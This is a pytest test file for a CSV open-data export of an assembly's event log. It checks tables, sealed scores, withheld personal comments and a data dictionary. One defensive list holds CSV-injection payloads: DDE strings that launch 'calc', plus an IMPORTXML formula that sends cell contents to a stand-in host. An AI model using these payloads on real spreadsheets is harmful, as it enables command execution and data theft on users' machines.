"""This module is about open data: tables that say what the log says, and act on no spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import tempfile
from hashlib import sha256
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import collectif
from collectif.demo import record_evening
from collectif.exchange.csv_cells import NUL_SHOWN, WITHHELD_CELL, cell, harmless, original
from collectif.exchange.csv_folder import export_csv
from collectif.exchange.registry import Terms
from collectif.record.envelope import Draft
from collectif.record.event import EVENTS, Unknown
from collectif.testing.events import drafts, free_json
from collectif.testing.room import SCORING, commented, rectified, scored

known = [one for one in EVENTS if one.cls.__module__.startswith("collectif.")]
unknown = st.builds(
    lambda data: Draft(data=Unknown(type="vendor/rain-danced", version=3, data=data)), free_json
)


@pytest.fixture(scope="module")
def lachine():
    with record_evening("memory:") as collective:
        yield collective


def table(folder, name):
    with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@pytest.fixture(scope="module")
def data(lachine, tmp_path_factory):
    """The evening as open data, without words."""
    folder = tmp_path_factory.mktemp("open") / "data"
    return folder, export_csv(lachine, folder, Terms())


class TestTables:
    def test_a_table_for_each_type_and_a_row_for_each_event_in_view(self, lachine, data):
        """Retracted events are out of view; rectified ones say what they should have said."""
        folder, done = data
        told = {}
        for event in lachine.view().events():
            told.setdefault(event.type, []).append(event)
        for type, events in told.items():
            rows = table(folder, type)
            assert [event.id for event in events] == [row["event.id"] for row in rows]
            assert [event.seq for event in events] == [int(row["event.seq"]) for row in rows]
        assert done.counts["types"] == len(told)
        assert done.counts["events"] == sum(map(len, told.values())) == 922
        (mended,) = [
            r for r in table(folder, "score-cast") if r["event.id"] == "r1-aines/s3/levier"
        ]
        assert mended["value"] == "4"

    def test_every_score_is_in_its_cell(self, lachine, data):
        """Round, member, proposal, criterion and value: enough to count again."""
        folder, _ = data
        rows = {
            (r["round_id"], r["member_id"], r["proposal_id"], r["criterion_id"], r["value"])
            for r in table(folder, "score-cast")
        }
        events = lachine.view().events(frozenset({"score-cast"}))
        assert rows == {
            (d.round_id, d.member_id, d.proposal_id, d.criterion_id, str(d.value))
            for d in (event.data for event in events)
        }

    def test_nested_values_have_columns_and_lists_are_joined(self, data):
        """Languages, positions and fields are steps of a path."""
        folder, _ = data
        (convened,) = table(folder, "assembly-convened")
        (charter,) = table(folder, "charter-adopted")
        (decision,) = table(folder, "decision-taken")
        assert convened["agenda/0/title/fr"]
        assert (charter["charter/scale/min"], charter["charter/scale/max"]) == ("1", "5")
        assert decision["dissents/0/member_id"] == "loge"
        assert table(folder, "attendance-recorded")[0]["mandate_ids"].startswith("man-alim|")

    def test_words_are_withheld_and_counted(self, lachine, data, tmp_path):
        """Unless they are asked for."""
        folder, done = data
        assert {WITHHELD_CELL} == {row["text"] for row in table(folder, "comment-made")}
        assert done.counts["withheld"] == 59

        open_ = export_csv(lachine, tmp_path / "with", Terms(with_words=True))
        assert open_.counts["withheld"] == 0
        assert all(row["text/fr"] for row in table(tmp_path / "with", "comment-made"))

    def test_words_of_corrections_are_withheld_too(self, tmp_path):
        """A rectification carries words in free JSON, which must not give them away."""
        with collectif.open("memory:") as room:
            for act in (*SCORING, commented("k1", text={"fr": "Sésame"})):
                act(room)
            k1 = list(room.log.read())[-1].id
            rectified(k1, {"text": {"fr": "Un autre Sésame"}})(room)
            room.close_round(round="r1")
            done = export_csv(room, tmp_path / "out", Terms())
        text = b"".join(file.read_bytes() for file in (tmp_path / "out").iterdir())
        assert "Sésame".encode() not in text
        assert done.counts["withheld"] >= 3

    def test_as_known_at_a_size(self, lachine, tmp_path):
        """The root is the one that the log had."""
        done = export_csv(lachine, tmp_path / "out", Terms(known_at=70))
        assert lachine.log.at(70).head().root == done.root
        assert done.counts["events"] == 70

    def test_types_that_nobody_knows_have_a_table_of_their_own(self, tmp_path):
        """Their content is flattened like any other."""
        told = {"event.seq": "=1+1", "=cmd": [1, "a|b"], "deep": {"a/b": {"x~y": None}}}
        with collectif.open("memory:") as log:
            log.log.append([Unknown(type="vendor/rain-danced", version=2, data=told)])
            export_csv(log, tmp_path / "out", Terms())
        (row,) = table(tmp_path / "out", "vendor.rain-danced")
        assert ("0", "'=1+1") == (row["event.seq"], row["data/event.seq"])
        assert row["data/=cmd"] == r"1|a\|b"
        assert row["data/deep/a~1b/x~0y"] == ""


class TestSealed:
    @pytest.fixture
    def room(self):
        with collectif.open("memory:") as room:
            for act in (*SCORING, scored("alim", "s2", "levier", 3, reason="Sésame")):
                act(room)
            wrong = list(room.log.read())[-1].id
            rectified(wrong, {"value": 5})(room)
            yield room

    def test_values_of_an_open_round_are_not_given_away(self, room, tmp_path):
        """Nor what corrects them; which cells were answered is shown."""
        done = export_csv(room, tmp_path / "out", Terms(with_words=True))
        (score,) = table(tmp_path / "out", "score-cast")
        (mended,) = table(tmp_path / "out", "event-rectified")

        assert ("alim", "s2", WITHHELD_CELL) == (
            score["member_id"], score["proposal_id"], score["value"])  # fmt: skip
        assert score["event.withheld"] == "reason|value"
        assert WITHHELD_CELL == mended["payload"]
        assert mended["target"] == score["event.id"]
        assert done.counts["sealed"] >= 3
        assert "Sésame".encode() not in (tmp_path / "out" / "score-cast.csv").read_bytes()

    def test_they_are_shown_when_it_has_closed(self, room, tmp_path):
        """Open afterwards serves accountability."""
        room.close_round(round="r1")
        done = export_csv(room, tmp_path / "out", Terms())
        assert table(tmp_path / "out", "score-cast")[0]["value"] == "5"
        assert done.counts["sealed"] == 0


class TestDictionary:
    def test_every_column_is_in_it_with_what_it_means(self, data):
        """The meaning stands in the event class; none is left out."""
        folder, _ = data
        told = {(row["file"], row["column"]): row for row in table(folder, "dictionary")}
        for file in folder.glob("*.csv"):
            if file.name != "dictionary.csv":
                with file.open(encoding="utf-8", newline="") as lines:
                    for column in next(csv.reader(lines)):
                        assert told[file.name, column]["meaning"], (file.name, column)
        assert told["comment-made.csv", "text"]["personal"] == "true"
        assert told["score-cast.csv", "value"]["type"] == "string"
        assert told["ballot-cast.csv", "round_id"]["personal"] == "false"

    def test_package_says_what_is_there(self, lachine, data):
        """Every file with its size, digest and columns; licence, size and root."""
        folder, done = data
        told = json.loads((folder / "datapackage.json").read_text("utf-8"))

        assert told["licenses"][0]["name"] == "CC-BY-4.0"
        assert (923, done.root.hex()) == (told["collectif"]["size"], told["collectif"]["root"])
        assert lachine.log.head().root == done.root
        listed = {one["path"]: one for one in told["resources"]}
        assert {file.name for file in folder.glob("*.csv")} == set(listed)
        for name, one in listed.items():
            raw = (folder / name).read_bytes()
            assert (len(raw), f"sha256:{sha256(raw).hexdigest()}") == (one["bytes"], one["hash"])
            header = next(csv.reader(raw.decode().splitlines()))
            assert [field["name"] for field in one["schema"]["fields"]] == header
        assert {file.name for file in folder.iterdir()} == set(done.files)

    def test_page_is_in_french_and_in_english(self, data):
        """With the licence, the size, the root, and what is withheld."""
        folder, done = data
        page = (folder / "README.md").read_text("utf-8")
        assert page.count(done.root.hex()) == page.count("CC-BY-4.0") == 2
        assert "Mots personnels masqués\xa0: 59" in page
        assert "Personal words withheld: 59" in page
        assert page.count("deck ") == page.count(", illustrative ") == 2

    def test_another_licence(self, lachine, tmp_path):
        """Any name will do."""
        export_csv(lachine, tmp_path / "out", Terms(licence="Entre nous"))
        told = json.loads((tmp_path / "out" / "datapackage.json").read_text("utf-8"))
        assert told["licenses"] == [{"name": "Entre nous"}]


HOSTILE = [
    *("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "＋1", "－1", "＠x"),
    *("'=1", "'", "\u200b=1", "\u202e=1", WITHHELD_CELL, '=HYPERLINK("http://x")'),
    *("\0=1", "\0", " \u00a0\u3000=1", "\ufeff=1", "\u034f=1", "\ufe0f@x", "\u3164=1", "\u2800+1"),
    *("﹦1", "﹢1", "﹣1", "﹫x", "⁼1", "⁺1", "₌1", "\u2060\u180e\u200f-1", "\x0b\x0c=1"),
    *("=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    '=IMPORTXML(CONCAT("http://x/?v=",CONCATENATE(A2:E2)),"//a/a10")',
]

PLAIN = ["a=1", "1+1", "Été", "—1", "−1", "1", "a\n=1", "élan -1", "[withheld]!", "“=1”"]


class TestFormulas:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_no_cell_begins_like_one(self, text):
        """OWASP, CSV injection: the first visible character decides."""
        assert harmless(text).startswith("'")
        assert text.replace("\0", NUL_SHOWN) == original(harmless(text))

    @pytest.mark.parametrize("text", PLAIN)
    def test_other_texts_stay_as_they_are(self, text):
        """A sign inside a text, a dash and a minus sign (U+2212) begin no formula."""
        assert text == harmless(text)

    @given(st.text(" \t\r\n\u00a0\u200b\u2060\ufeff\u202e\u034f\ufe0f\u3164\u2800", max_size=6),
           st.sampled_from("=+-@＝＋－＠﹦﹢﹣﹫⁼⁺"), st.text(max_size=9))  # fmt: skip
    @settings(max_examples=300, deadline=None)
    def test_nothing_that_does_not_show_hides_one(self, before, sign, after):
        """However much of it there is; and a reader of CSV gets the text back."""
        text = f"{before}{sign}{after}".replace("\0", NUL_SHOWN)
        lines = io.StringIO(newline="")
        csv.writer(lines).writerow([cell(text), cell(-3)])
        ((written, number),) = csv.reader(io.StringIO(lines.getvalue(), newline=""))
        assert (written[0], number) == ("'", "-3")
        assert text == original(written)

    @given(st.text())
    @settings(max_examples=300)
    def test_taking_the_apostrophe_away_gives_the_text_back(self, text):
        """Any text but one with a NUL, which no spreadsheet takes."""
        shown = text.replace("\0", NUL_SHOWN)
        assert (shown or None) == original(harmless(text))

    def test_numbers_stay_numbers(self, tmp_path):
        """A negative number is no formula."""
        with collectif.open("memory:") as log:
            log.log.append([Unknown(type="x", version=1, data={"n": -3, "t": "-3"})])
            export_csv(log, tmp_path / "out", Terms())
        (row,) = table(tmp_path / "out", "x")
        assert ("-3", "'-3") == (row["data/n"], row["data/t"])

    @given(st.lists(st.one_of(unknown, *(drafts(one.cls) for one in known)), max_size=6))
    @settings(max_examples=60, deadline=None)
    def test_any_log_becomes_tables_that_do_nothing(self, told):
        """Whatever was recorded; every table can be read again, row by row."""
        with tempfile.TemporaryDirectory() as folder, collectif.open("memory:") as log:
            for draft in told:
                log.log.append([draft])
            done = export_csv(log, Path(folder) / "out", Terms(with_words=True))
            rows = 0
            for file in (Path(folder) / "out").glob("*.csv"):
                with file.open(encoding="utf-8", newline="") as lines:
                    header, *body = csv.reader(lines)
                assert len(set(header)) == len(header)
                assert {len(row) for row in body} <= {len(header)}
                rows += len(body) * (file.name != "dictionary.csv")
                for one in (cell for row in (header, *body) for cell in row):
                    assert one[:1] not in tuple("=+@\t\r\n") or one[:1] == ""
            assert rows == done.counts["events"]
